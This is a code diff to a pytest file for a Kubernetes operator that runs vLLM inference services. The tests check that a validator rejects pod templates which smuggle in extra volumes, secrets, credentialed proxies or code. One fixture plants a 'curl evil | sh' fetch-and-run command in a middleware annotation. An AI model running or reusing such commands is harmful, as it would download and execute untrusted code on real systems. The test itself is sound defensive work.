@@ -10,10 +10,11 @@ import yaml
 from cluster.host import REPOSITORY
 from support.snapshots import service
 from vllm_operator.api.resource import InferenceService
-from vllm_operator.assess.kept import bars
+from vllm_operator.assess.kept import Today, bars
 from vllm_operator.cli.render import service_of
 from vllm_operator.manifests import Rendering, pod_template
-from vllm_operator.manifests.privileges import privileges
+from vllm_operator.manifests.names import MIDDLEWARE_ANNOTATION
+from vllm_operator.manifests.privileges import digest
 from vllm_operator.settings import Images, Settings
 
 SETTINGS = Settings()
@@ -27,7 +28,7 @@ def bad(change: Callable[[Template, Template, Template], object], **settings: An
     """Why a template with a change to (all of it, its pods' spec, their container) is not applied."""
     template = copy.deepcopy(TEMPLATE)
     change(template, template["spec"], template["spec"]["containers"][0])
-    return bars(template, service().spec, Settings(**settings))
+    return bars(template, Today(service().spec, Settings(**settings)))
 
 
 def complete() -> tuple[InferenceService, Settings]:
@@ -38,10 +39,10 @@ def complete() -> tuple[InferenceService, Settings]:
 
 
 def test_what_is_rendered_may_be_applied() -> None:
-    assert bars(TEMPLATE, service().spec, SETTINGS) == ""
+    assert bars(TEMPLATE, Today(service().spec, SETTINGS)) == ""
     owner, own = complete()
     template = pod_template(owner, own, Rendering("1" * 40, ("NVIDIA-H100-80GB-HBM3",)))
-    assert bars(template, owner.spec, own) == ""
+    assert bars(template, Today(owner.spec, own)) == ""
 
 
 def test_what_the_first_version_rendered_may_be_applied() -> None:
@@ -55,7 +56,7 @@ def test_what_the_first_version_rendered_may_be_applied() -> None:
         {"name": "USER", "value": "vllm"},
         {"name": "PYTHONPATH", "value": "/etc/vllm/operator"},
     ]
-    assert bars(template, service().spec, SETTINGS) == ""
+    assert bars(template, Today(service().spec, SETTINGS)) == ""
 
 
 @pytest.mark.parametrize(
@@ -108,8 +109,8 @@ def test_what_is_not_allowed_today(change: Callable[[Template, Template, Templat
     assert setting in bad(change)
     template = copy.deepcopy(TEMPLATE)
     change(template, template["spec"], template["spec"]["containers"][0])
-    deployed = privileges(template).digest()
-    assert bars(template, service().spec, SETTINGS, deployed) == "", "the Deployment asks for it in any case"
+    today = Today(service().spec, SETTINGS, lambda: TEMPLATE, digest(template))
+    assert bars(template, today) == "", "the Deployment asks for it in any case"
 
 
 def test_an_earlier_default_image_may_stay_and_one_of_another_registry_may_not() -> None:
@@ -127,9 +128,9 @@ def test_the_digest_says_whether_two_ask_for_the_same_whatever_the_api_server_fi
     filled["metadata"]["creationTimestamp"] = None
     filled["spec"] |= {"restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler"}
     filled["spec"]["containers"][0]["terminationMessagePath"] = "/dev/termination-log"
-    assert privileges(filled).digest() == privileges(TEMPLATE).digest()
+    assert digest(filled) == digest(TEMPLATE)
     filled["spec"]["serviceAccountName"] = "admin"
-    assert privileges(filled).digest() != privileges(TEMPLATE).digest()
+    assert digest(filled) != digest(TEMPLATE)
 
 
 def argument(*more: str) -> Callable[[Template, Template, Template], object]:
@@ -157,3 +158,58 @@ def test_a_command_line_that_is_allowed() -> None:
     assert bad(argument("--tool-parser-plugin=/etc/vllm/plugins/a/plugin.py"), allow_parser_plugins=True) == ""
     assert bad(argument("--enable-log-requests"), allow_request_logs=True) == ""
     assert bad(argument("--seed=1", "--no-async-scheduling", "--load-format=mistral")) == ""
+
+
+def volume(name: str, **source: Any) -> Callable[[Template, Template, Template], object]:
+    """A template with another volume, mounted."""
+
+    def change(_: Template, pod: Template, container: Template) -> None:
+        pod["volumes"].append({"name": name, **source})
+        container["volumeMounts"].append({"name": name, "mountPath": "/etc/vllm/configuration"})
+
+    return change
+
+
+def variable(name: str, value: str) -> Callable[[Template, Template, Template], object]:
+    """A template with a variable."""
+    return lambda _all, _pod, container: container["env"].append({"name": name, "value": value})
+
+
+def program(whole: Template, *_: Template) -> None:
+    """A template with another program for the server."""
+    whole["metadata"]["annotations"][MIDDLEWARE_ANNOTATION] = "import os; os.system('curl evil | sh')"
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (volume("x", persistentVolumeClaim={"claimName": "payments"}), "claims (payments)"),
+        (volume("x", configMap={"name": "evil"}), "Secrets or ConfigMaps (ConfigMap evil)"),
+        (volume("x", projected={"sources": [{"secret": {"name": "db"}}]}), "Secrets or ConfigMaps (Secret db)"),
+        (lambda *parts: parts[2]["volumeMounts"][0].update(mountPath="/opt/vllm"), "volumes at paths (/opt/vllm)"),
+        (variable("HTTPS_PROXY", "http://me:hunter2@evil:1"), "variables (HTTPS_PROXY)"),
+        (lambda *parts: parts[2]["args"].__setitem__(0, "evil/backdoor"), "arguments (evil/backdoor)"),
+        (argument("--tokenizer=evil/tokenizer"), "arguments (--tokenizer)"),
+        (argument("--allowed-media-domains", "metadata.internal"), "arguments (metadata.internal)"),
+        (lambda *parts: parts[2]["resources"]["limits"].update({"nvidia.com/gpu": "64"}), "GPUs (nvidia.com/gpu)"),
+        (program, "a program for the server ("),
+    ],
+)
+def test_nothing_is_brought_into_pods_that_the_spec_does_not_lead_to(
+    change: Callable[[Template, Template, Template], object], said: str
+) -> None:
+    """Whoever may make ControllerRevisions, and services, gets no more by the first than by the second."""
+    template = copy.deepcopy(TEMPLATE)
+    change(template, template["spec"], template["spec"]["containers"][0])
+    told = bars(template, Today(service().spec, SETTINGS, lambda: TEMPLATE))
+    assert told.startswith(f"its pods have {said}"), told
+    assert told.endswith(" that the spec does not lead to")
+    assert "hunter2" not in told
+    assert bars(template, Today(service().spec, SETTINGS, lambda: TEMPLATE, digest(template))) == ""
+
+
+def test_what_is_rendered_today_brings_in_what_it_brings_in() -> None:
+    owner, own = complete()
+    rendering = Rendering("1" * 40, ("NVIDIA-H100-80GB-HBM3",))
+    template = pod_template(owner, own, rendering)
+    assert bars(template, Today(owner.spec, own, lambda: pod_template(owner, own, rendering))) == ""
